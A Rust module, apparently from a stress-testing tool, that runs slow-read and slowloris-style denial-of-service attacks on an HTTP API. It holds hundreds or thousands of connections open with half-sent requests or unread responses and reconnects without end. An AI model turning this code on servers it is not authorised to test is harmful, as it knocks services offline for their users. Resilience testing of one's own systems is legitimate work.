//! Connections that take or send nothing.

use std::time::Duration;

use futures_util::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpSocket;

use crate::failure::Failure;
use crate::siege::attack::Target;

/// Asks for long lists and reads nothing of the responses.
pub(super) async fn untaken_pages(target: &Target<'_>) -> Result<(), Failure> {
    let requests = (0..300).map(|number| {
        let path = if number % 2 == 0 {
            "/api/v1/articles?limit=1000"
        } else {
            "/api/v1/articles"
        };
        stay(target, format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n"))
    });
    join_all(requests).await;
    Ok(())
}

/// Sends the first half of many requests.
pub(super) async fn half_sent(target: &Target<'_>) -> Result<(), Failure> {
    let requests = (0..2000).map(|number| {
        let head = if number % 2 == 0 {
            "GET /api/v1/articles HTTP/1.1\r\nHost: x\r\nX-Half: ".to_owned()
        } else {
            "POST /api/v1/tags HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"
                .to_owned()
        };
        stay(target, head)
    });
    join_all(requests).await;
    Ok(())
}

/// Sends bytes and keeps the connection open, opening another whenever the server ends it.
async fn stay(target: &Target<'_>, bytes: String) {
    loop {
        let sent = async {
            let socket = TcpSocket::new_v4()?;
            // Small, so that the response stays with the server.
            socket.set_recv_buffer_size(4096)?;
            let mut stream = socket.connect(target.client.address()).await?;
            stream.write_all(bytes.as_bytes()).await?;
            let mut byte = [0];
            // Notices the end, and takes at most one byte per second.
            while stream.read(&mut byte).await? > 0 {
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
            Ok::<_, std::io::Error>(())
        };
        sent.await.ok();
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}
